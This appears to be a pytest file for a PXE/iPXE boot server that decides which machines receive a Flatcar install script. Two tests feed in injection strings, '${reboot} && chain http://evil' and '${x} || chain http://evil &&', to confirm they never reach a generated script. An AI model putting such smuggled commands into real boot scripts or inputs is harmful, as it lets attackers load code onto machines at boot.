"""``boot/<mac>``: who gets an install script, and what everybody else gets."""

from __future__ import annotations

import sqlite3

import pytest

from tests.fakes.published import HOST, MAC, Clock, boot_server, digest_of, node_document

DAY = 86_400


@pytest.fixture
def server(tmp_path):
    with boot_server(tmp_path / "store") as running:
        yield running


def installs(script: str) -> bool:
    return "ignition.config.url=" in script


def test_without_an_architecture_the_answer_is_the_script_that_finds_it_out(server):
    server.publish(node_document())
    answer = server.machine.get(f"/boot/{MAC}")
    assert "buildarch" in answer.text and "arch=${arch}" in answer.text
    assert server.state() == "armed"


def test_an_armed_machine_gets_the_install_script_with_a_ticket_in_its_ignition_url(server):
    server.publish(node_document())
    script = server.boot()
    assert (
        f"ignition.config.url=http://boot.example:8080/ignition/{MAC.replace(':', '-')}" in script
    )
    assert "flatcar_production_pxe.vmlinuz" in script and "flatcar.first_boot=1" in script


@pytest.mark.parametrize("spelling", [MAC.upper(), MAC.replace(":", "-"), "52-54-00-00-00-0A"])
def test_a_mac_is_accepted_in_any_case_and_every_mac_of_a_bond_is_the_node(server, spelling):
    server.publish(node_document(macs=(MAC, "52:54:00:00:00:0a")))
    assert installs(server.boot(spelling))


def test_an_installed_machine_boots_its_disk_and_is_told_why(server):
    server.publish(node_document())
    server.install()
    script = server.boot()
    assert not installs(script)
    assert "generation 1 is installed" in script and "sanboot" in script


def test_raising_the_generation_arms_an_installed_machine_again(server):
    server.publish(node_document())
    server.install()
    server.publish(node_document(generation=2))
    assert installs(server.boot())
    assert server.node()["installedGeneration"] == 1


def test_arming_expires_a_day_after_the_publication(server):
    server.publish(node_document())
    server.clock.turn(DAY + 60)
    assert not installs(server.boot())
    assert "expired" in server.boot()
    assert server.state() == "pending"


def test_with_a_new_database_arming_counts_from_the_document_s_publication(tmp_path):
    """A server that lost its records two days after the publication arms nothing."""
    clock = Clock()
    with boot_server(tmp_path / "store", clock) as server:
        server.publish(node_document())
        clock.turn(2 * DAY)
    for file in (tmp_path / "store" / ".kindling").glob("records.sqlite*"):
        file.unlink()
    with boot_server(tmp_path / "store", clock) as server:
        assert not installs(server.boot())


def test_without_auto_arm_an_operator_s_arm_comes_first(server):
    server.publish(node_document(auto_arm=False))
    assert not installs(server.boot())
    assert server.operator("POST", f"/api/nodes/{HOST}/arm").status_code == 200
    assert installs(server.boot())


def test_a_machine_of_the_wrong_architecture_is_not_installed_and_the_page_says_why(server):
    server.publish(node_document(arch="arm64"))
    script = server.boot(arch="x86_64")
    assert not installs(script) and "the stack says arm64" in script
    node = server.node()
    assert node["state"] == "armed" and "firmware is x86-64" in node["diagnosis"]
    assert installs(server.boot(arch="arm64"))
    assert server.node()["diagnosis"] == ""


def test_a_held_machine_gets_a_script_that_stops_and_says_why(server):
    server.publish(node_document())
    for _ in range(3):
        server.attempt()
        assert server.report("failed", message="no disk").status_code == 200
    script = server.boot()
    assert not installs(script) and "held" in script and "sleep" in script
    assert server.state() == "held"


def test_an_interrupted_installation_is_served_the_script_again(server):
    server.publish(node_document())
    server.boot()
    server.report("installing")
    assert installs(server.boot())


def test_a_destroyed_node_s_machine_boots_its_disk_and_is_not_wiped_when_it_comes_back(server):
    document = server.publish(node_document())
    server.install()
    server.remove(document)
    assert not installs(server.boot())
    assert server.operator("GET", f"/api/nodes/{HOST}").status_code == 404
    server.publish(document)
    assert not installs(server.boot())
    assert server.state() == "booted"


def test_an_arm_shows_at_once_in_the_next_script(server):
    """Disk scripts are repeated from memory for a moment; a change ends that."""
    server.publish(node_document(auto_arm=False))
    for _ in range(20):
        assert not installs(server.boot())
        server.operator("POST", f"/api/nodes/{HOST}/arm")
        assert installs(server.boot())
        server.operator("POST", f"/api/nodes/{HOST}/disarm")


def test_a_head_request_begins_no_attempt(server):
    server.publish(node_document())
    server.report("installing")
    assert server.machine.head(f"/boot/{MAC}?arch=x86_64").status_code == 405
    assert server.node()["failures"] == 0


def test_a_text_that_is_no_mac_is_refused_with_a_script(server):
    for wrong in ("52-54-00-00-00", "zz-54-00-00-00-01", f"{MAC}/x", "%00", "a" * 3000):
        answer = server.machine.get(f"/boot/{wrong}", params={"arch": "x86_64"})
        assert answer.status_code == 404


def test_what_a_machine_says_of_itself_never_enters_a_script(server):
    server.publish(node_document(auto_arm=False))
    evil = "${reboot} && chain http://evil"
    for mac in (MAC, "de:ad:be:ef:00:01"):
        script = server.boot(mac, manufacturer=evil, product=evil, serial=evil)
        assert "evil" not in script and "${reboot}" not in script


def test_an_operator_s_name_cannot_put_a_command_into_a_script(server):
    server.publish(node_document())
    server.operator(
        "POST", f"/api/nodes/{HOST}/disarm", **{"Kindling-Operator": "${x} || chain http://evil &&"}
    )
    (line,) = [line for line in server.boot().splitlines() if "disarmed" in line]
    assert not set("$&|{}") & set(line)


def test_an_installation_that_was_begun_again_counts_as_a_failed_attempt(server):
    server.publish(node_document())
    server.attempt()
    assert server.state() == "armed"
    server.report("installing")
    server.attempt()
    assert server.node()["failures"] == 1


def test_who_only_asks_for_a_script_does_not_fail_somebody_s_installation(server):
    """Anybody on the segment can ask with any MAC address."""
    server.publish(node_document())
    server.attempt()
    server.report("installing")
    for _ in range(5):
        server.boot(at="10.0.0.66")
    assert (server.state(), server.node()["failures"]) == ("installing", 0)


def test_who_asks_again_and_again_does_not_push_out_what_the_machine_did(server):
    server.publish(node_document())
    server.attempt()
    server.report("installing")
    for number in range(200):
        server.clock.turn(0.1)
        server.boot(at="10.0.0.66", arch=("arm64", "x86_64")[number % 2])
    server.node()  # what was observed is written by now
    with sqlite3.connect(server.directory / ".kindling" / "records.sqlite") as records:
        rows = records.execute("SELECT kind, address FROM events").fetchall()
    assert "installing" in [kind for kind, _address in rows]
    assert 10 <= len([kind for kind, address in rows if address == "10.0.0.66"]) < 30


def test_another_node_s_records_are_left_alone(server):
    other = "52:54:00:00:00:02"
    server.publish(node_document())
    server.publish(node_document("n2.example", other, digest=digest_of("other")))
    server.install()
    assert installs(server.boot(other))
    assert server.state("n2.example") == "armed"
